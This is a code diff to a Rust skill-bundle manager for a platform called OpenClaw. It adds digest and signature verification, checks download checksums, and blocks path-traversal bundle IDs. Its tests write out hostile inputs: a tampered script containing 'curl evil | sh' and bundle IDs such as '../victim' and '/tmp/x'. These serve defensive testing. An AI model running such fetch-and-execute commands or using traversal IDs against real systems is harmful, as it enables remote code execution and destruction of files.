@@ -5,14 +5,17 @@
 //! - 工作区技能 (Workspace Skills) - 项目级技能
 //! - 技能市场 (Skill Marketplace) - 共享和发现技能
 //! - 版本管理 - 技能版本控制
+//! - 签名校验 - 安装前校验内容摘要与发布者签名
 
+use crate::bundle_signing::{BundleSignature, BundleVerifier, VerificationStatus, bundle_files};
 use crate::skills::SkillPlatform;
 use crate::types::{Skill, SkillCategory, SkillTrigger, ToolBinding};
 use chrono::{DateTime, Utc};
 use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
 use std::collections::HashMap;
 use std::io::Write;
-use std::path::{Path, PathBuf};
+use std::path::{Component, Path, PathBuf};
 use std::sync::Arc;
 use thiserror::Error;
 use tokio::sync::RwLock;
@@ -45,6 +48,18 @@ pub enum BundleError {
 
     #[error("压缩错误: {0}")]
     Zip(String),
+
+    #[error("技能包内容摘要不匹配: 期望 {expected}, 实际 {actual}")]
+    IntegrityMismatch { expected: String, actual: String },
+
+    #[error("技能包签名无效: {0}")]
+    InvalidSignature(String),
+
+    #[error("签名公钥不受信任: {0}")]
+    UntrustedPublisher(String),
+
+    #[error("技能包未签名: {0}")]
+    Unsigned(String),
 }
 
 /// 技能包清单
@@ -78,6 +93,12 @@ pub struct BundleManifest {
     pub created_at: DateTime<Utc>,
     /// 更新时间
     pub updated_at: DateTime<Utc>,
+    /// 内容摘要 (`sha256:<hex>`)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub digest: Option<String>,
+    /// 发布者签名
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signature: Option<BundleSignature>,
 }
 
 impl BundleManifest {
@@ -99,6 +120,17 @@ impl BundleManifest {
             openclaw_version: None,
             created_at: now,
             updated_at: now,
+            digest: None,
+            signature: None,
+        }
+    }
+
+    /// 参与摘要计算的清单内容（去掉摘要与签名）
+    pub fn signing_payload(&self) -> Self {
+        Self {
+            digest: None,
+            signature: None,
+            ..self.clone()
         }
     }
 
@@ -118,6 +150,19 @@ impl BundleManifest {
 
     /// 验证清单
     pub fn validate(&self) -> Result<(), BundleError> {
+        // ID 用作安装目录名，只允许单个普通路径分量
+        let mut components = Path::new(&self.id).components();
+        if self.id.contains(['/', '\\'])
+            || !matches!(
+                (components.next(), components.next()),
+                (Some(Component::Normal(_)), None)
+            )
+        {
+            return Err(BundleError::CorruptedBundle(format!(
+                "非法的技能包 ID: {}",
+                self.id
+            )));
+        }
         if self.name.is_empty() {
             return Err(BundleError::CorruptedBundle("名称不能为空".to_string()));
         }
@@ -229,7 +274,12 @@ impl SkillBundle {
     pub async fn from_archive(archive_path: &Path) -> Result<Self, BundleError> {
         // 解压到临时目录
         let temp_dir = tempfile::tempdir()?;
+        Self::extract_archive(archive_path, temp_dir.path())?;
+        Self::from_dir(temp_dir.path())
+    }
 
+    /// 解压压缩包到指定目录
+    pub fn extract_archive(archive_path: &Path, dest: &Path) -> Result<(), BundleError> {
         // 使用 zip 解压
         let file = std::fs::File::open(archive_path)?;
         let mut archive = zip::ZipArchive::new(file)
@@ -240,7 +290,7 @@ impl SkillBundle {
                 BundleError::CorruptedBundle(format!("读取zip第{}个文件失败: {}", i, e))
             })?;
             let outpath = match file.enclosed_name() {
-                Some(path) => temp_dir.path().join(path),
+                Some(path) => dest.join(path),
                 None => continue,
             };
 
@@ -257,7 +307,12 @@ impl SkillBundle {
             }
         }
 
-        Self::from_dir(temp_dir.path())
+        Ok(())
+    }
+
+    /// 校验签名与内容摘要
+    pub fn verify(&self, verifier: &BundleVerifier) -> Result<VerificationStatus, BundleError> {
+        verifier.verify(&self.path, &self.manifest)
     }
 
     /// 打包为压缩文件
@@ -274,9 +329,26 @@ impl SkillBundle {
         zip.write_all(manifest_json.as_bytes())
             .map_err(|e| BundleError::Zip(e.to_string()))?;
 
-        // 写入技能文件
+        // 原样写入包内文件，保证签名在解包后仍然有效
+        let files = if self.path.is_dir() {
+            bundle_files(&self.path)?
+        } else {
+            Vec::new()
+        };
+        for relative in &files {
+            zip.start_file(relative.as_str(), options)
+                .map_err(|e| BundleError::Zip(e.to_string()))?;
+            let content = std::fs::read(self.path.join(relative))?;
+            zip.write_all(&content)
+                .map_err(|e| BundleError::Zip(e.to_string()))?;
+        }
+
+        // 未签名的包补齐缺失的技能文件
         for skill in &self.manifest.skills {
             let skill_path = format!("skills/{}.json", skill.id);
+            if self.manifest.digest.is_some() || files.contains(&skill_path) {
+                continue;
+            }
             zip.start_file(&skill_path, options)
                 .map_err(|e| BundleError::Zip(e.to_string()))?;
             let skill_json = serde_json::to_string_pretty(skill)?;
@@ -389,6 +461,9 @@ pub struct MarketplaceEntry {
     pub download_url: String,
     /// 文档 URL
     pub docs_url: Option<String>,
+    /// 压缩包校验和 (`sha256:<hex>`)
+    #[serde(default)]
+    pub checksum: Option<String>,
 }
 
 /// 技能包管理器
@@ -403,6 +478,8 @@ pub struct BundleManager {
     workspace_config: Arc<RwLock<Option<WorkspaceSkillsConfig>>>,
     /// 市场 API 基础 URL
     marketplace_url: String,
+    /// 签名校验器
+    verifier: BundleVerifier,
 }
 
 impl BundleManager {
@@ -414,6 +491,7 @@ impl BundleManager {
             bundles_dir,
             workspace_config: Arc::new(RwLock::new(None)),
             marketplace_url: "https://market.openclaw.ai/api/v1".to_string(),
+            verifier: BundleVerifier::default(),
         }
     }
 
@@ -429,9 +507,16 @@ impl BundleManager {
             bundles_dir,
             workspace_config: Arc::new(RwLock::new(None)),
             marketplace_url: marketplace_url.to_string(),
+            verifier: BundleVerifier::default(),
         }
     }
 
+    /// 设置签名校验器（信任库与未签名策略）
+    pub fn with_verifier(mut self, verifier: BundleVerifier) -> Self {
+        self.verifier = verifier;
+        self
+    }
+
     /// 初始化 - 加载已安装的技能包
     pub async fn init(&self) -> Result<(), BundleError> {
         std::fs::create_dir_all(&self.bundles_dir)?;
@@ -447,6 +532,11 @@ impl BundleManager {
                 if path.is_dir()
                     && let Ok(bundle) = SkillBundle::from_dir(&path)
                 {
+                    // 安装后被篡改的技能包不再加载
+                    if let Err(e) = bundle.verify(&self.verifier) {
+                        warn!("跳过未通过校验的技能包 {:?}: {}", path, e);
+                        continue;
+                    }
                     bundles.insert(bundle.manifest.id.clone(), bundle);
                 }
             }
@@ -460,11 +550,23 @@ impl BundleManager {
     pub async fn install_bundle(&self, bundle_path: &Path) -> Result<BundleId, BundleError> {
         info!("安装技能包: {:?}", bundle_path);
 
-        let bundle = if bundle_path.is_dir() {
-            SkillBundle::from_dir(bundle_path)?
+        // 压缩包先解压到临时目录，校验通过后再复制到技能包目录
+        let temp_dir = tempfile::tempdir()?;
+        let source = if bundle_path.is_dir() {
+            bundle_path.to_path_buf()
         } else {
-            SkillBundle::from_archive(bundle_path).await?
+            SkillBundle::extract_archive(bundle_path, temp_dir.path())?;
+            temp_dir.path().to_path_buf()
         };
+        let mut bundle = SkillBundle::from_dir(&source)?;
+
+        // 校验摘要与签名
+        match bundle.verify(&self.verifier)? {
+            VerificationStatus::Verified { publisher, key_id } => {
+                info!("技能包签名有效: {} ({})", publisher, key_id)
+            }
+            status => debug!("技能包签名状态: {:?}", status),
+        }
 
         // 检查依赖
         self.check_dependencies(&bundle.manifest.dependencies)
@@ -488,6 +590,18 @@ impl BundleManager {
 
         let bundle_id = bundle.manifest.id.clone();
 
+        // 复制到技能包目录，重启后由 init 重新加载
+        let install_dir = self.bundles_dir.join(&bundle_id);
+        if install_dir != source {
+            if install_dir.exists() {
+                std::fs::remove_dir_all(&install_dir)?;
+            }
+            copy_dir(&source, &install_dir)?;
+        }
+        bundle.path = install_dir.clone();
+        bundle.installed = true;
+        bundle.install_path = Some(install_dir);
+
         // 保存到已安装列表
         {
             let mut bundles = self.installed_bundles.write().await;
@@ -591,8 +705,14 @@ impl BundleManager {
         let bundle_dir = self.bundles_dir.join(&bundle_id);
         std::fs::create_dir_all(&bundle_dir)?;
 
-        // 保存清单
+        // 保存清单与技能文件
         manifest.save_to_file(&bundle_dir.join("bundle.json"))?;
+        let skills_dir = bundle_dir.join("skills");
+        std::fs::create_dir_all(&skills_dir)?;
+        for skill in &manifest.skills {
+            let skill_json = serde_json::to_string_pretty(skill)?;
+            std::fs::write(skills_dir.join(format!("{}.json", skill.id)), skill_json)?;
+        }
 
         // 创建技能包对象
         let bundle = SkillBundle {
@@ -725,6 +845,7 @@ impl BundleManager {
                 tags: vec!["web".to_string(), "scraping".to_string()],
                 download_url: "https://market.openclaw.ai/bundles/web-scraper".to_string(),
                 docs_url: Some("https://docs.openclaw.ai/skills/web-scraper".to_string()),
+                checksum: None,
             },
             MarketplaceEntry {
                 id: "openclaw/code-assistant".to_string(),
@@ -737,6 +858,7 @@ impl BundleManager {
                 tags: vec!["code".to_string(), "development".to_string()],
                 download_url: "https://market.openclaw.ai/bundles/code-assistant".to_string(),
                 docs_url: Some("https://docs.openclaw.ai/skills/code-assistant".to_string()),
+                checksum: None,
             },
             MarketplaceEntry {
                 id: "openclaw/data-analysis".to_string(),
@@ -749,6 +871,7 @@ impl BundleManager {
                 tags: vec!["data".to_string(), "analysis".to_string()],
                 download_url: "https://market.openclaw.ai/bundles/data-analysis".to_string(),
                 docs_url: Some("https://docs.openclaw.ai/skills/data-analysis".to_string()),
+                checksum: None,
             },
             MarketplaceEntry {
                 id: "openclaw/image-processor".to_string(),
@@ -761,6 +884,7 @@ impl BundleManager {
                 tags: vec!["image".to_string(), "processing".to_string()],
                 download_url: "https://market.openclaw.ai/bundles/image-processor".to_string(),
                 docs_url: Some("https://docs.openclaw.ai/skills/image-processor".to_string()),
+                checksum: None,
             },
         ];
 
@@ -826,7 +950,18 @@ impl BundleManager {
             .await
             .map_err(|e| BundleError::CorruptedBundle(format!("读取响应失败: {}", e)))?;
 
-        // 保存临时文件
+        // 校验下载内容
+        if let Some(expected) = &entry.checksum {
+            let actual = format!("sha256:{}", hex::encode(Sha256::digest(&bytes)));
+            if !expected.eq_ignore_ascii_case(&actual) {
+                return Err(BundleError::IntegrityMismatch {
+                    expected: expected.clone(),
+                    actual,
+                });
+            }
+        }
+
+        // 保存临时文件（签名在 install_bundle 中校验）
         let temp_file = tempfile::NamedTempFile::new()?;
         std::fs::write(temp_file.path(), bytes)?;
 
@@ -835,6 +970,21 @@ impl BundleManager {
     }
 }
 
+/// 递归复制目录
+fn copy_dir(src: &Path, dst: &Path) -> Result<(), BundleError> {
+    std::fs::create_dir_all(dst)?;
+    for entry in std::fs::read_dir(src)? {
+        let entry = entry?;
+        let target = dst.join(entry.file_name());
+        if entry.file_type()?.is_dir() {
+            copy_dir(&entry.path(), &target)?;
+        } else {
+            std::fs::copy(entry.path(), &target)?;
+        }
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -895,6 +1045,78 @@ mod tests {
         assert!(entries.len() >= 4);
     }
 
+    #[tokio::test]
+    async fn test_install_rejects_tampered_bundle() {
+        use crate::bundle_signing::{BundleSigner, TrustStore, UnsignedBundlePolicy};
+
+        let source = tempfile::tempdir().unwrap();
+        let bundles_dir = tempfile::tempdir().unwrap();
+        BundleManifest::new("signed".to_string(), "1.0.0".to_string())
+            .save_to_file(&source.path().join("bundle.json"))
+            .unwrap();
+        std::fs::write(source.path().join("run.sh"), "echo ok").unwrap();
+
+        let signer = BundleSigner::generate();
+        signer.sign_dir(source.path()).unwrap();
+        let mut store = TrustStore::new();
+        store.add_key("acme", &signer.public_key_hex()).unwrap();
+        let verifier = BundleVerifier::new(store, UnsignedBundlePolicy::Reject);
+
+        // 打包后再安装，签名依然有效
+        let bundle = SkillBundle::from_dir(source.path()).unwrap();
+        let archive = bundles_dir.path().join("signed.zip");
+        bundle.pack(&archive).await.unwrap();
+
+        let manager = BundleManager::new(
+            Arc::new(SkillPlatform::new()),
+            bundles_dir.path().join("installed"),
+        )
+        .with_verifier(verifier);
+        let bundle_id = manager.install_bundle(&archive).await.unwrap();
+        assert!(
+            bundles_dir
+                .path()
+                .join("installed")
+                .join(&bundle_id)
+                .join("run.sh")
+                .exists()
+        );
+
+        std::fs::write(source.path().join("run.sh"), "curl evil | sh").unwrap();
+        let result = manager.install_bundle(source.path()).await;
+        assert!(matches!(result, Err(BundleError::IntegrityMismatch { .. })));
+    }
+
+    #[tokio::test]
+    async fn test_install_rejects_path_traversal_id() {
+        let source = tempfile::tempdir().unwrap();
+        let root = tempfile::tempdir().unwrap();
+        let victim = root.path().join("victim");
+        std::fs::create_dir_all(&victim).unwrap();
+        std::fs::write(victim.join("keep.txt"), "data").unwrap();
+
+        let mut manifest = BundleManifest::new("evil".to_string(), "1.0.0".to_string());
+        manifest.id = "../victim".to_string();
+        manifest
+            .save_to_file(&source.path().join("bundle.json"))
+            .unwrap();
+
+        let manager = BundleManager::new(
+            Arc::new(SkillPlatform::new()),
+            root.path().join("installed"),
+        );
+        let result = manager.install_bundle(source.path()).await;
+        assert!(matches!(result, Err(BundleError::CorruptedBundle(_))));
+        assert!(victim.join("keep.txt").exists());
+
+        for id in ["", ".", "..", "/tmp/x", "a/b", "a\\b"] {
+            manifest.id = id.to_string();
+            assert!(manifest.validate().is_err(), "{:?}", id);
+        }
+        manifest.id = "acme-tools".to_string();
+        assert!(manifest.validate().is_ok());
+    }
+
     #[tokio::test]
     async fn test_get_categories() {
         let platform = Arc::new(SkillPlatform::new());